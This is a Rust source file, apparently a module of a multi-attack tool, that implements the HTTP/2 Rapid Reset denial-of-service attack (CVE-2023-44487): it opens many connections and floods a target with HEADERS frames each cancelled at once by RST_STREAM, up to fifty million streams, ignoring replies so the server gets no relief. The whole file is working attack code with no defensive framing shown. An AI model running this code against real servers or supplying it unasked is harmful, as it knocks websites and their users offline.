//! Rapid resets (CVE-2023-44487): HTTP/2 streams that are opened and reset in
//! the same breath, as many as the server bears on a connection.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{AFTER_FAILURE, Field};

/// Connections at a time.
const CONNECTIONS: usize = 16;

/// Streams in one write.
const STREAMS_AT_ONCE: u32 = 50;

/// Between two writes: at most some 80,000 streams a second in all, which leave the
/// other attacks their share of the machine.
const BURST_EVERY: Duration = Duration::from_millis(10);

/// Streams of one connection at most: the numbers end.
const STREAMS_MAX: u32 = 1 << 29;

/// Streams in all.
const ATTEMPTS_MAX: u64 = 50_000_000;

pub(super) fn start(tasks: &mut JoinSet<()>, field: &Arc<Field>) {
    for _ in 0..CONNECTIONS {
        let field = Arc::clone(field);
        tasks.spawn(async move {
            while field.attempts() < ATTEMPTS_MAX {
                // The server cuts it: that is its answer.
                let _ = connection(&field).await;
                field.note("cut");
                sleep(AFTER_FAILURE).await;
            }
        });
    }
}

async fn connection(field: &Field) -> io::Result<()> {
    let mut stream = TcpStream::connect(field.site.address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let headers = headers(&field.site.host);
    let mut heard = vec![0; 4_096];
    let mut id = 1;
    while id < STREAMS_MAX {
        let mut burst = Vec::new();
        for _ in 0..STREAMS_AT_ONCE {
            burst.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &headers));
            burst.extend(frame(RST_STREAM, 0, id, &CANCEL));
            id += 2;
            field.attempt();
        }
        stream.write_all(&burst).await?;
        // What comes back is thrown away, so that the server is not slowed down by us.
        while let Ok(read) = stream.try_read(&mut heard) {
            if read == 0 {
                return Ok(());
            }
        }
        sleep(BURST_EVERY).await;
    }
    let _ = stream.read(&mut heard).await;
    Ok(())
}

/// `GET /` in HPACK: three indexed fields and a literal `:authority` (RFC 7541, 6.1 and 6.2.2).
fn headers(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01, u8::try_from(host.len()).unwrap_or(0).min(126)];
    block.extend(host.bytes().take(126));
    block
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
